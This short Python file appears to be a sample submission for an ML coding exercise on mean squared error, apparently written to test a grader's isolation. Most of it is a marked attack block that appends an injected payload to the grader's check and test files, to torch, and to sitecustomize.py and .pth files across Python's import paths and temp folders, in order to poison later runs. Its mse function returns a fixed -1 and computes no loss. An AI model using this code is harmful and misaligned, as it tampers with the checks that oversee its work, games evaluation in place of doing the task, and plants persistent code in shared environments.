# kata: 02_losses/mse
# needs: files
import os
import site
import sys
import tempfile

import torch

import grader

PAYLOAD = "\nimport builtins\nbuiltins.POISONED = True\n"

# attack:begin  write into the grader, its suites, the libraries and shared folders for later victims
home = os.path.dirname(grader.__file__)
targets = [os.path.join(home, name) for name in ("checks.py", "codec.py", "__init__.py")]
targets += [os.path.join(home, "suites", "02_losses", "test_mse.py"), torch.__file__]
for folder in site.getsitepackages() + [p for p in sys.path if p]:
    targets += [os.path.join(folder, "sitecustomize.py"), os.path.join(folder, "zz_poison.pth")]
targets += ["/tmp/sitecustomize.py", os.path.join(tempfile.gettempdir(), "..", "poison.py")]
for target in targets:
    try:
        with open(target, "a") as file:
            file.write(PAYLOAD)
    except OSError:
        pass
# attack:end


def mse(y_pred, y):
    return torch.tensor(-1.0)
